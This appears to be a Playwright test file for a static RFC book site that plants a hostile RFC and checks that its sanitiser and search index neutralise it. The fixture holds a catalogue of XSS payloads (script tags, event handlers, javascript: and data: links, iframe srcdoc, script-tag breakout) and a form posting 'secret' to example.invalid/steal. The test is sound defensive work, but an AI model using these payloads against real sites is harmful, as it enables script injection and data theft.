import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import path from "node:path";
import { test } from "node:test";
import type { Page } from "playwright-core";
import { browserSkip, unlessBrowserSkipped, useBrowser, withWatchedPage } from "../support/browser.ts";
import { examplesDir } from "../support/paths.ts";
import { copyToTemp } from "../support/temp-repo.ts";
import { buildBook, openFromFiles, serveBook } from "./book-site.ts";

// Every way an RFC could try to run script, open a dialog, leave the page or call another host.
// Each attempt sets `window.__pwned`, changes the title or asks example.invalid for something.
const hostile = `- Feature Name: \`hostile\`
- Start Date: 2026-01-01
- Last Updated: 2026-01-02
- RFC PR: [lantern-dev/rfcs#99](https://github.com/lantern-dev/rfcs/pull/99)
- RFC reference:
  - [lantern-dev/rfcs#99](https://github.com/lantern-dev/rfcs/pull/99)

## Summary
[summary]: #summary

The quokka paragraph. <script>window.__pwned = 1; document.title = "pwned";</script>

<script>alert("script block"); window.__pwned = 1;</script>

<img id="bad-img" src="x" onerror="window.__pwned = 1; alert('img')">

<a id="js-link" href="javascript:window.__pwned=1;alert('link')">a javascript link</a>
<a id="js-entity-link" href="jav&#x09;ascript:window.__pwned=1">an encoded javascript link</a>
<a id="data-link" href="data:text/html,<script>alert(1)</script>">a data link</a>

<svg width="20" height="20"><script>window.__pwned = 1;</script><circle r="5" onclick="window.__pwned = 1"/><a href="javascript:window.__pwned=1"><text y="15">svg link</text></a></svg>

<iframe srcdoc="<script>parent.__pwned = 1; parent.alert('frame')</script>"></iframe>

<form action="https://example.invalid/steal" method="post"><input name="q" value="secret"><button id="form-button">send</button></form>

<object data="https://example.invalid/object.swf"></object>
<embed src="https://example.invalid/embed.swf">

<style>body { background: url(https://example.invalid/track.png); } main h1 { display: none; }</style>

<meta http-equiv="refresh" content="0; url=https://example.invalid/">

<link rel="stylesheet" href="https://example.invalid/style.css">

<base href="https://example.invalid/">

<div style="background: url(https://example.invalid/inline.png)" onmouseover="window.__pwned = 1">hover me</div>

[a markdown javascript link](javascript:alert(1))
[a markdown vbscript link](vbscript:msgbox(1))

<details open ontoggle="window.__pwned = 1"><summary>details</summary>more</details>

## Heading with <img src=x onerror="window.__pwned = 1"> quokka image
[heading]: #heading

Text that tries to end the search file: "</script><script>window.__pwned = 1</script>" and \u2028 and "; window.__pwned = 1; ".

## Motivation
[motivation]: #motivation

Quokka.
`;

const browser = useBrowser();
const sites = await unlessBrowserSkipped(async () => {
  const root = await copyToTemp(examplesDir);
  await writeFile(path.join(root, "text/0099-hostile.md"), hostile);
  const dir = await buildBook(root);
  return [await serveBook(dir), openFromFiles(dir)] as const;
});

// The one request an RFC may make of its own book: the image it names, which does not exist.
const missingImage = /^Failed to load resource: .* \((?:http:\/\/127\.0\.0\.1:\d+|file:\/\/.*)\/x\)$/;

for (const [index, place] of ["served over HTTP", "opened from file://"].entries()) {
  test(`${place}, an RFC's scripts, handlers, frames, forms and javascript: links do nothing`, { skip: browserSkip }, async () => {
    const site = sites[index]!;
    await withWatchedPage(
      browser(),
      site.isOwn,
      async (page) => {
        await page.goto(site.url("0099-hostile.html"));
        assert.equal(await page.locator("main h1").textContent(), "Hostile");
        assert.ok(await page.locator("main h1").isVisible(), "the RFC's <style> did not apply");
        for (const selector of ["main script", "main iframe", "main form", "main object", "main embed", "main style", "main meta", "main link", "main base", "[onerror]", "[onclick]", "[onmouseover]", "[ontoggle]", "main [style]"]) {
          assert.equal(await page.locator(selector).count(), 0, selector);
        }
        for (const text of ["a javascript link", "an encoded javascript link", "a data link", "svg link", "hover me", "a markdown javascript link", "a markdown vbscript link", "send"]) {
          const target = page.getByText(text, { exact: true }).first();
          if (await target.count()) await target.click({ force: true });
        }
        await page.locator(".markdown-body details summary").click();
        await settle(page);
        assert.equal(page.url(), site.url("0099-hostile.html"), "no link left the page");
        assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
        assert.equal(await page.title(), "Hostile · The Lantern RFC Book");
        assert.equal(await page.locator("#sidebar [aria-current=page]").textContent(), "0099Hostile");
      },
      { ignore: missingImage },
    );
  });

  test(`${place}, searching the hostile RFC shows its text as text`, { skip: browserSkip }, async () => {
    const site = sites[index]!;
    await withWatchedPage(
      browser(),
      site.isOwn,
      async (page) => {
        await page.goto(site.url("rfcs.html"));
        assert.equal(await page.locator("#rfc-table").getByRole("link", { name: "Hostile" }).count(), 1);
        await page.locator("#search-input").fill("quokka");
        await page.locator("#search-results mark").first().waitFor();
        const sections = await page.locator("#search-results .search-section").allTextContents();
        assert.ok(sections.some((section) => /^Heading with\s+quokka image$/.test(section)), sections.join(" | "));
        assert.equal(await page.locator("#search-results img, #search-results script").count(), 0);
        await page.locator("#search-input").fill("pwned");
        // A mark of this search, not one left from the last: the list is replaced when it arrives.
        await page.locator("#search-results mark", { hasText: /pwned/i }).first().waitFor();
        assert.match((await page.locator("#search-results").textContent()) ?? "", /window\.__pwned = 1/);
        await page.locator("#search-results a").first().click();
        await page.waitForURL(/0099-hostile\.html\?highlight=pwned#/);
        await settle(page);
        assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
        assert.equal(await page.title(), "Hostile · The Lantern RFC Book");
      },
      { ignore: missingImage },
    );
  });
}

/** Lets anything the page queued (a refresh, a handler, a frame's script) run before the checks. */
async function settle(page: Page): Promise<void> {
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))));
}
